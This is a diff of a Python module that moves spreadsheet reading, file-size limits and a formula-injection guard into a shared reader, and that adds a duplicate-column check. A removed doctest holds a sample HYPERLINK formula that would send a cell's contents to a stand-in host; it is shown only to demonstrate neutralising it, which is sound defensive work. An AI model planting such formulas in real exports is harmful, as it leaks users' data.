@@ -12,14 +12,13 @@ Files come from outside, so :func:`read_table` reads each one in a worker proces
 (:mod:`miner.read.isolate`) with a time limit and a memory cap, refuses files over ``MAX_BYTES`` or
 ``MAX_ROWS`` with a "too large" message, tries UTF-8 first and falls back to cp1252 / latin-1 with a
 warning, and never evaluates a spreadsheet formula (openpyxl reads the cached values). Cells written
-back to CSV or XLSX go through :func:`safe_cell`, so a description such as ``=HYPERLINK(...)`` is
+back to CSV or XLSX go through :func:`safe_cell`; tables are read by the one reader of lists,
+:mod:`miner.read.spreadsheet`, which sniffs the content, skips title rows and lists duplicate headers, so a description such as ``=HYPERLINK(...)`` is
 text, not a formula, when the file is opened in a spreadsheet.
 """
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import re
 from dataclasses import dataclass, field
@@ -32,6 +31,7 @@ from miner.errors import InputError, UsageError
 from miner.nlp.french import analyse, guess_language
 from miner.nlp.text import strip_accents
 from miner.read.isolate import Limits, run_isolated
+from miner.read.spreadsheet import MAX_BYTES, MAX_COLUMNS, MAX_ROWS, read_sheet, safe_cell, sniff_kind
 from miner.records import Activity
 
 __all__ = [
@@ -67,13 +67,6 @@ COLUMN_ALIASES: dict[str, tuple[str, ...]] = {
 MAX_CHARS = 2000
 """Longer descriptions are truncated (with a warning): an activity is a sentence or a paragraph,
 and the embedding model reads at most 256 word pieces anyway."""
-
-MAX_BYTES = 50 * 1024 * 1024
-"""Largest activity file read: a cluster's list is a few hundred rows, well under 1 MB."""
-MAX_ROWS = 100_000
-"""Most rows read: a hundred times the longest real list; a million-row file is refused, not read."""
-MAX_COLUMNS = 500
-"""Most columns kept per row: a sheet claiming 16,384 columns is cut, not expanded."""
 
 UNDATED = frozenset({"", "n.d.", "nd", "n.d", "s.d.", "sd", "-", "?", "inconnue", "unknown", "n/a"})
 """Date cells that mean "no date" ("n.d." = non daté)."""
@@ -132,6 +125,16 @@ def find_column(columns: list[str], field_name: str, given: str | None = None, *
     >>> find_column(["Date", "Texte"], "description", "Texte")
     'Texte'
     """
+    found = _find_column(columns, field_name, given, path=path)
+    if found is not None:
+        same = [i + 1 for i, c in enumerate(columns) if _norm(c) == _norm(found)]
+        if len(same) > 1:
+            raise InputError(path, f"{len(same)} columns are named {found!r} (columns "
+                                   f"{', '.join(map(str, same))}); rename or remove one so it is clear which to read")
+    return found
+
+
+def _find_column(columns: list[str], field_name: str, given: str | None, *, path: str) -> str | None:
     if given is not None:
         if given in columns:
             return given
@@ -150,108 +153,9 @@ def find_column(columns: list[str], field_name: str, given: str | None = None, *
     return None
 
 
-def _clean_cell(value: Any) -> str:
-    if value is None:
-        return ""
-    if isinstance(value, float) and value.is_integer():
-        value = int(value)
-    if hasattr(value, "isoformat"):
-        value = value.isoformat()
-        value = value[:10] if value.endswith("T00:00:00") else value
-    return str(value)
-
-
-def _decode(raw: bytes) -> tuple[str, str | None]:
-    """Text of a CSV and a warning when it was not UTF-8.
-
-    >>> _decode("Activité".encode("cp1252"))
-    ('Activité', 'not UTF-8: read as cp1252 (Windows Western European); check accented letters')
-    >>> _decode(b"\\xef\\xbb\\xbfid")[0]
-    'id'
-    """
-    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
-        try:
-            return raw.decode("utf-16"), None
-        except UnicodeDecodeError:
-            pass
-    try:
-        return raw.decode("utf-8-sig"), None
-    except UnicodeDecodeError:
-        pass
-    try:
-        return raw.decode("cp1252"), "not UTF-8: read as cp1252 (Windows Western European); check accented letters"
-    except UnicodeDecodeError:
-        return raw.decode("latin-1"), "not UTF-8 nor cp1252: read as latin-1; check accented letters"
-
-
-def _too_large(path: Path) -> None:
-    size = path.stat().st_size
-    if size > MAX_BYTES:
-        raise InputError(path, f"too large: {size / 2**20:.0f} MB (limit {MAX_BYTES // 2**20} MB); "
-                               "split the list or give only the activities")
-
-
-def _read_csv(path: Path) -> ActivityTable:
-    _too_large(path)
-    text, warning = _decode(path.read_bytes())
-    text = text.replace("\x00", "")
-    try:
-        dialect = csv.Sniffer().sniff(text[:4096], delimiters=",;\t")
-    except csv.Error:
-        dialect = csv.excel
-    rows: list[list[str]] = []
-    try:
-        for row in csv.reader(io.StringIO(text), dialect):
-            if len(rows) > MAX_ROWS:
-                raise InputError(path, f"too large: more than {MAX_ROWS} rows; split the list")
-            rows.append(row[:MAX_COLUMNS])
-    except csv.Error as exc:
-        raise InputError(path, f"malformed CSV, line {len(rows) + 1}: {exc}") from None
-    if not rows:
-        raise InputError(path, "empty file: no header row")
-    header, body = rows[0], rows[1:]
-    return ActivityTable(str(path), [h.strip() for h in header], body, [None] * len(body),
-                         warnings=[warning] if warning else [])
-
-
-def _read_xlsx(path: Path, sheet: str | None) -> ActivityTable:
-    import openpyxl
-
-    _too_large(path)
-    try:
-        # data_only: a formula cell gives the value cached by the program that saved it; nothing is evaluated.
-        book = openpyxl.load_workbook(path, read_only=True, data_only=True)
-    except Exception as exc:  # openpyxl raises many types for a broken file
-        raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {exc})") from None
-    names = book.sheetnames
-    if sheet is None and len(names) > 1:
-        raise UsageError(f"{path}: the workbook has {len(names)} sheets ({', '.join(names)}); choose one with --sheet")
-    if sheet is not None and sheet not in names:
-        raise UsageError(f"{path}: no sheet {sheet!r}; sheets found: {', '.join(names)}")
-    ws = book[sheet or names[0]]
-    ws.reset_dimensions()  # read every row there is, not the range the file claims
-    rows: list[list[str]] = []
-    try:
-        for row in ws.iter_rows(values_only=True, max_col=MAX_COLUMNS):
-            if len(rows) > MAX_ROWS:
-                raise InputError(path, f"too large: more than {MAX_ROWS} rows; split the list")
-            rows.append([_clean_cell(v) for v in row])
-    except InputError:
-        raise
-    except Exception as exc:  # a damaged sheet raises XML, zip or value errors while streaming
-        raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {exc})") from None
-    finally:
-        book.close()
-    while rows and not any(c.strip() for c in rows[0]):
-        rows.pop(0)
-    if not rows:
-        raise InputError(path, f"sheet {ws.title!r} is empty")
-    header = [h.strip() for h in rows[0]]
-    width = max(i + 1 for i, h in enumerate(header) if h) if any(header) else 0
-    body = [r[:width] + [""] * (width - len(r[:width])) for r in rows[1:]]
-    while body and not any(c.strip() for c in body[-1]):
-        body.pop()  # openpyxl reports formatted but empty trailing rows
-    return ActivityTable(str(path), header[:width], body, [None] * len(body), sheet=ws.title)
+def _from_sheet(sheet: Any) -> ActivityTable:
+    return ActivityTable(sheet.path, sheet.header, sheet.rows, [None] * len(sheet.rows),
+                         sheet=sheet.sheet if sheet.kind == "xlsx" else None, warnings=sheet.warnings)
 
 
 def _join_lines(cell: str | None) -> str:
@@ -315,14 +219,15 @@ def _bullets(path: Path, lines: list[tuple[int, str]]) -> ActivityTable:
 
 
 def _read_local(path: Path, sheet: str | None, password: str | None) -> ActivityTable:
-    suffix = path.suffix.lower()
-    if suffix in {".csv", ".tsv", ".txt"}:
-        return _read_csv(path)
-    if suffix in {".xlsx", ".xlsm"}:
-        return _read_xlsx(path, sheet)
-    if suffix == ".pdf":
+    """By content (:func:`miner.read.spreadsheet.sniff_kind`): a PDF report, else a CSV or XLSX table."""
+    try:
+        with path.open("rb") as handle:
+            head = handle.read(8)
+    except OSError as exc:
+        raise InputError(path, f"cannot read ({exc.strerror or exc})") from None
+    if sniff_kind(path, head) == "pdf":
         return _read_pdf(path, password)
-    raise InputError(path, f"unsupported file type {suffix!r}; use .csv, .xlsx or .pdf")
+    return _from_sheet(read_sheet(path, sheet=sheet))
 
 
 READ_LIMITS = None
@@ -390,26 +295,6 @@ def read_table(path: str | Path, *, sheet: str | None = None, password: str | No
     if table is None:
         raise InputError(path, error or "unreadable")
     return table
-
-
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?%?")
-
-
-def safe_cell(value: Any) -> Any:
-    """A cell for a CSV or XLSX that a spreadsheet will show as text, never run as a formula.
-
-    Text starting with ``= + - @`` (or a tab or carriage return) gets a leading apostrophe, the
-    usual guard against formula injection; numbers and other values are left as they are.
-
-    >>> print(safe_cell('=HYPERLINK("http://x/?"&A1, "clic")'))
-    '=HYPERLINK("http://x/?"&A1, "clic")
-    >>> safe_cell("-0.25"), safe_cell(3), safe_cell("Atelier")
-    ('-0.25', 3, 'Atelier')
-    """
-    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
-        return "'" + value
-    return value
 
 
 def row_problems(text: str, *, max_chars: int = MAX_CHARS) -> tuple[str, str | None, list[str]]:
